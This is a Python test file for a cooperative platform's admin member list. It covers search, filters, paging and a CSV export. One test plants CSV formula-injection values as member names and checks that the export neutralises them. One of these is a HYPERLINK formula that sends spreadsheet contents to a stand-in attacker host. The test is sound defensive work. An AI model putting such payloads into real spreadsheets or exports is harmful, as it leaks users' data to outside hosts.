"""The admin's member list (profiles.roster via /admin/): search, state and visibility filters,
keyset paging that visits every member once."""

from __future__ import annotations

import re

from sqlalchemy import insert

from federation.db import utcnow
from profiles.invitations import AccountInvitation
from profiles.members import create_member
from profiles.models import Member

PASSWORD = "a long enough password"


def populate(app, count: int) -> None:
    """``count`` members: every 4th active, every 4th+1 invited, +2 revoked, +3 never invited;
    every 5th deactivated; visibility cycles public/partners/coop."""
    state = app.extensions["coopfed"]
    ctx, now = state.ctx, utcnow()
    with state.session() as s:
        admin = create_member(s, ctx, username="boss", email="boss@example.org", password=PASSWORD)
        admin.is_admin = True
        s.flush()
        rows = [
            {
                "ap_id": ctx.member_iri(f"m{i:04d}"),
                "local": True,
                "node": ctx.domain,
                "username": f"m{i:04d}",
                "email": f"person{i}@example.org",
                "name": f"Person Nummer {i}",
                "ref": f"R-{i}",
                "password_hash": admin.password_hash if i % 4 == 0 else None,
                "visibility": ("public", "partners", "coop")[i % 3],
                "deactivated_at": now if i % 5 == 0 else None,
                "coop_name": ctx.name,
                "created_at": now,
                "updated_at": now,
            }
            for i in range(count)
        ]
        s.execute(insert(Member), rows)
        ids = dict(s.query(Member.username, Member.id).all())
        s.execute(
            insert(AccountInvitation),
            [
                {
                    "member_id": ids[f"m{i:04d}"],
                    "generation": 1,
                    "sent_count": 1,
                    "state": "invited" if i % 4 == 1 else "revoked",
                    "created_at": now,
                    "sent_at": now,
                }
                for i in range(count)
                if i % 4 in (1, 2)
            ],
        )
        s.commit()


def signed_in_admin(app):
    app.config["WTF_CSRF_ENABLED"] = False
    client = app.test_client()
    client.post("/login", data={"username": "boss", "password": PASSWORD})
    return client


def usernames(html: str) -> list[str]:
    return re.findall(r'<tr id="member-row-([^"]+)"', html)


def total(html: str) -> int:
    return int(re.search(r"<caption>(\d+) members?</caption>", html).group(1))


def test_paging_visits_every_member_once(make_node):
    app = make_node()
    populate(app, 160)
    client = signed_in_admin(app)
    seen, url = [], "/admin/"
    while url:
        html = client.get(url).get_data(as_text=True)
        assert total(html) == 161
        seen += usernames(html)
        found = re.search(r'href="([^"]+)" rel="next"', html)
        url = found.group(1).replace("&amp;", "&") if found else None
    assert len(seen) == 161 and seen == sorted(seen) and len(set(seen)) == 161


def test_search_and_filters(make_node):
    app = make_node()
    populate(app, 100)
    client = signed_in_admin(app)

    def names(query: str) -> list[str]:
        html = client.get(f"/admin/?{query}").get_data(as_text=True)
        found = usernames(html)
        assert total(html) == len(found) or len(found) == 50
        return found

    assert names("q=m004") == [f"m{i:04d}" for i in range(40, 50)]  # user name prefix
    assert names("q=nummer+17") == ["m0017"]  # a piece of the name, any case
    assert names("q=person3%40") == ["m0003"]  # e-mail
    assert names("q=R-42") == ["m0042"]  # member number
    assert names("q=%25") == []  # LIKE wildcards are literal
    active = {f"m{i:04d}" for i in range(100) if i % 4 == 0 and i % 5}
    assert set(names("state=active")) == active | {"boss"}
    assert set(names("state=invited")) == {f"m{i:04d}" for i in range(100) if i % 4 == 1 and i % 5}
    assert set(names("state=pending")) == {f"m{i:04d}" for i in range(100) if i % 4 == 3 and i % 5}
    assert set(names("state=revoked")) == {f"m{i:04d}" for i in range(100) if i % 4 == 2 and i % 5}
    assert len(names("state=deactivated")) == 20
    assert names("state=admin") == ["boss"]
    public_active = {u for u in active if int(u[1:]) % 3 == 0}
    assert set(names("state=active&visibility=public")) == public_active
    html = client.get("/admin/?state=invited").get_data(as_text=True)
    assert 'id="admin-nav"' in html and "invited, not accepted" in html


def test_csv_export_is_formula_safe_and_filtered(make_node):
    import csv
    import io

    app = make_node()
    populate(app, 30)
    state = app.extensions["coopfed"]
    with state.session() as s:
        evil = s.query(Member).filter(Member.username == "m0001").one()
        evil.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        evil.city = "-2+3"
        s.query(Member).filter(Member.username == "m0002").one().name = "@SUM(A1:A9)"
        s.commit()
    client = signed_in_admin(app)
    response = client.get("/admin/members.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][:3] == ["username", "name", "email"] and len(rows) == 32
    by_name = {r[0]: r for r in rows[1:]}
    assert by_name["m0001"][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert by_name["m0001"][7] == "'-2+3"
    assert by_name["m0002"][1] == "'@SUM(A1:A9)"
    assert by_name["m0003"][1] == "Person Nummer 3"  # ordinary text untouched
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    invited = client.get("/admin/members.csv?state=invited").get_data(as_text=True)
    assert len(invited.strip().splitlines()) - 1 == len(
        [i for i in range(30) if i % 4 == 1 and i % 5]
    )
    assert app.test_client().get("/admin/members.csv").status_code == 302  # signed out
